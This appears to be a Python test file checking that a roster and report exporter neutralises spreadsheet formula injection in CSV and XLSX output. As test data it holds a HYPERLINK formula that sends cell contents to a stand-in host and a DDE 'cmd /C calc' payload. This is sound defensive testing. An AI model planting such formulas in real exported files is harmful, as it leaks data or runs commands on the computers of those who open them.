"""Roster text in exported spreadsheets stays text: no formula Excel would run."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from spreadsheets import csv_value, xlsx_row

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'


@pytest.mark.parametrize("write_only", [False, True])
def test_text_starting_with_an_equals_sign_is_stored_as_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(xlsx_row(sheet, [EVIL, "张三", 3, None, "=1+1"]))
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[-1].iter_rows())
    assert [c.value for c in cells[:5]] == [EVIL, "张三", 3, None, "=1+1"]
    assert [c.data_type for c in cells[:5]] == ["s", "s", "n", "n", "s"]


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-x", "'-x"), ("+8613800138000", "+8613800138000"), ("-5", "-5"), ("湛江市赤坎区", "湛江市赤坎区"), ("", ""),
    (None, None), (12, 12),
])
def test_csv_fields_that_excel_would_run_get_an_apostrophe(value, expected):
    assert csv_value(value) == expected


def test_report_exports_keep_a_formula_like_name_as_text(app):
    from reports.export import PERCENT, Table, to_csv, to_xlsx

    with app.test_request_context():
        table = Table("核查结论", [("姓名", ""), ("比例", PERCENT)])
        table.rows += [["=1+1", 0.25], ["张三", None]]
        sheet = load_workbook(io.BytesIO(to_xlsx([table]))).worksheets[0]
        assert (sheet["A2"].value, sheet["A2"].data_type, sheet["B2"].value) == ("=1+1", "s", 0.25)
        assert "'=1+1,0.25" in to_csv(table).decode("utf-8-sig")
